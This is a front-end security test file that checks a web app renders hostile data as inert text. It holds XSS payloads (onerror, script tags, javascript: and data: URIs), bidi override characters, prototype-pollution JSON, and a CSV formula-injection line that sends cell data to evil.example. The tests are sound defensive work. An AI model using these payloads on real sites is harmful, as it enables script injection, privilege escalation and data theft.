import { act, screen, waitFor, within } from '@testing-library/react'
import { afterEach, describe, expect, test, vi } from 'vitest'
import { paths } from '@/lib/navigation/paths'
import {
  type Hostile,
  hostileAnswers,
  hostileLogin,
  hostileShortlist,
  hostileVisits,
} from '../samples/hostile'
import { apiStore } from '../helpers/local-server'
import { logInAs, renderApp } from '../helpers/render-app'
import { there } from '../helpers/there'

const MARKUP = 'x<img src=x onerror="window.__hit=1"><script>window.__hit=1</script>'
const PICTURES = [
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.__hit=1"/>',
  'javascript:window.__hit=1',
  'data:text/html,<script>window.__hit=1</script>',
  '" onerror="window.__hit=1',
]
/** Control characters that reverse the direction of the text after them. */
const TURNS = /[\u202A-\u202E\u2066-\u2069]/

/** Opens a page as a person whose data in the API and in the storage is hostile text. */
async function open(who: 'visitor' | 'member' | 'admin', address: string, hostile: Hostile) {
  window.localStorage.setItem('cart', hostileShortlist(hostile))
  window.localStorage.setItem('search', JSON.stringify({ keyword: hostile.name }))
  if (who !== 'visitor') {
    const { user, token } = await logInAs(who)
    window.localStorage.setItem('auth', hostileLogin(user, token, hostile))
  }
  for (const fault of hostileAnswers(hostile)) apiStore().faults.add(fault)
  return renderApp(address)
}

/** All text that a reader finds on the page, including its fields and its title. */
function words(): string {
  const fields = document.querySelectorAll<HTMLInputElement>('input, textarea')
  const values = [...fields].map(({ value }) => value)
  return [document.title, document.body.textContent, ...values].join(' ')
}

const shows = (text: string) => waitFor(() => expect(words()).toContain(text), { timeout: 9000 })

/** A link to a chat or mail with a prefilled text, which is wholly encoded and so contains no markup. */
const BEGUN_TEXT = /^(?:https:\/\/wa\.me\/\d*\?text=|mailto:[\w.@-]+\?)[\w%&=.!~*-]*$/

/** What could run code, or call another host, if the page treated a text as more than text. */
function executableParts(): string[] {
  const all = [...document.body.querySelectorAll('*')]
  const addresses = all.flatMap((element) =>
    ['src', 'href', 'action', 'srcset', 'style'].map((name) => element.getAttribute(name) ?? ''),
  )
  return [
    ...all.filter((each) => each.getAttributeNames().some((name) => name.startsWith('on'))),
    ...document.querySelectorAll('script:not([type="application/ld+json"]), iframe, object, embed'),
  ]
    .map(({ outerHTML }) => outerHTML)
    .concat(
      addresses
        .filter((each) => !BEGUN_TEXT.test(each))
        .filter((each) => /script:|svg\+xml|text\/html|onerror/i.test(each)),
    )
}

afterEach(() => {
  expect(Reflect.get(window, '__hit')).toBeUndefined()
  expect(Object.keys(Object.prototype)).toEqual([])
})

describe('markup is text, no picture has a script, and no name reverses the text around it', () => {
  test.each(hostileVisits)('on $address', async ({ who, address }) => {
    const photo = PICTURES[address.length % PICTURES.length] ?? ''
    await open(who, address, { name: `\u202E\u2067${MARKUP}`, photo })
    await shows(MARKUP)
    expect(executableParts()).toEqual([])
    expect(document.documentElement.outerHTML).not.toMatch(TURNS)
  })
})

describe('half of a surrogate pair, which JSON can contain, breaks no page', () => {
  test.each(hostileVisits)('on $address', async ({ who, address }) => {
    await open(who, address, { name: 'Half \uD800 done', email: 'half\uD800@mail.example' })
    await shows('Half \uD800 done')
    expect(screen.queryByText('This page did not load')).toBeNull()
  })
})

describe('keys and names that every object inherits', () => {
  const record = `{"__proto__":{"name":"from below"},"constructor":{"prototype":{"x":1}},
    "_id":"__proto__","name":"constructor","details":"toString","category":"__proto__"}`
  const nameless = '{"__proto__":{"_id":"9","name":"from below"}}'
  const user = `{"__proto__":{"role":1},"_id":"constructor","name":"hasOwnProperty","usercode":"__proto__"}`
  const answers = [
    ['/country/getCountry', `[${nameless},${record}]`],
    [
      '/category/get-category',
      `{"category":[${nameless},${record}],"__proto__":{"success":false}}`,
    ],
    ['/work/work-category', `{"works":[${nameless},${record}]}`],
    ['/product/search', `{"__proto__":[],"results":[${nameless},${record}]}`],
    ['/auth/getusers', `[${user}]`],
  ] as const

  test.each([
    ['visitor', '/', 'constructor'],
    ['visitor', '/search?q=constructor', '4 Result Found'],
    ['visitor', '/latestjobs/__proto__', 'toString'],
    ['admin', '/dashboard/admin/users?q=has', 'hasOwnProperty'],
    ['admin', '/dashboard/admin/updatenews/__proto__', 'constructor'],
  ] as const)('are ordinary keys and names for a %s on %s', async (who, address, text) => {
    if (who === 'admin') await logInAs('admin')
    for (const [path, answer] of answers) apiStore().faults.add({ path, text: answer })
    window.localStorage.setItem('cart', `[${nameless},{"kind":"constructor","id":"1","name":"x"}]`)
    renderApp(address)
    await shows(text)
    expect(words()).not.toContain('from below')
  })

  test('in the stored login make nobody an administrator', async () => {
    const { user: member, token } = await logInAs('member')
    const stored = JSON.stringify({ user: member, token }).replace(
      '"role":0',
      '"__proto__":{"role":1}',
    )
    window.localStorage.setItem('auth', stored)
    renderApp(paths.policy.href())
    const profile = await screen.findAllByRole('link', { name: 'Profile' })
    expect(profile[0]).toHaveAttribute('href', '/dashboard/user')
  })
})

/** Tries to delete a country, which the server refuses with this message; returns the toast. */
async function failToDelete(message: string) {
  await logInAs('admin')
  const { user } = renderApp(paths.adminCountries.href())
  const [first] = await screen.findAllByRole('button', { name: /^Delete/ })
  apiStore().faults.add({ path: '/deleteCountry', body: { success: false, message } })
  await user.click(there(first))
  await user.click(
    within(await screen.findByRole('dialog')).getByRole('button', { name: 'Delete' }),
  )
  return waitFor(() => {
    const toast = document.querySelector('.Toastify__toast')
    expect(toast).not.toBeNull()
    return toast
  })
}

describe('words of the server in a toast', () => {
  test('are text, and reverse nothing', async () => {
    expect(await failToDelete(`\u202E${MARKUP}`)).toHaveTextContent(MARKUP)
    expect(executableParts()).toEqual([])
  })

  test('are ignored if they are 5 MB long: the site shows its own', async () => {
    const toast = await failToDelete('x'.repeat(5_000_000))
    expect(toast?.textContent).toMatch(/^.{5,100}$/)
  })
})

test('a formula in a name is text in the exported file', async () => {
  const blobs: Blob[] = []
  vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
    if (blob instanceof Blob) blobs.push(blob)
    return 'blob:users'
  })
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined)
  const formula = '=HYPERLINK("https://evil.example?"&A1,"x")'
  const { user } = await open('admin', '/dashboard/admin/users', { name: `\u202E ${formula}` })
  await shows(formula)
  await user.click(screen.getByRole('button', { name: 'Export as CSV' }))
  const [, line = ''] = (await act(async () => (await blobs[0]?.text()) ?? '')).split('\r\n')
  expect(line).toContain(`"'=HYPERLINK(""https`)
  expect(line).not.toMatch(/(^|,)"\s*[=+@-]/)
})
